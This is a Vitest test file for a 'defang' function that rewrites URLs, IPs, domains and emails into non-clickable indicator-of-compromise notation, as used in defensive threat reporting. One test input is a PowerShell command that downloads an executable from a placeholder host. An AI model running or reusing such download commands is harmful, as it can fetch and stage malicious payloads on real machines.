import { expect, test } from "vitest";
import { defang } from "./defang";

test.each([
  ["https://cdn.example.net/a.ps1?x=1", "hxxps://cdn[.]example[.]net/a.ps1?x=1"],
  ["http://203.0.113.7:8080/", "hxxp://203[.]0[.]113[.]7:8080/"],
  ["203.0.113.7", "203[.]0[.]113[.]7"],
  ["2001:db8::1", "2001[:]db8[:][:]1"],
  ["update.example.co.jp", "update[.]example[.]co[.]jp"],
  ["日本語.example.jp", "日本語[.]example[.]jp"],
  ["ftp://files.example.org", "fxp://files[.]example[.]org"],
  ["evil@mail.example.com", "evil[@]mail[.]example[.]com"],
  ["powershell -c iwr http://a.example/x.exe -o C:\\Temp\\x.exe", "powershell -c iwr hxxp://a[.]example/x.exe -o C:\\Temp\\x.exe"],
  ["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\cmd.exe"],
  ["svch0st.exe", "svch0st.exe"],
  ["e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
  ["03:08:41", "03:08:41"],
])("%s", (value, expected) => {
  expect(defang(value)).toBe(expected);
});
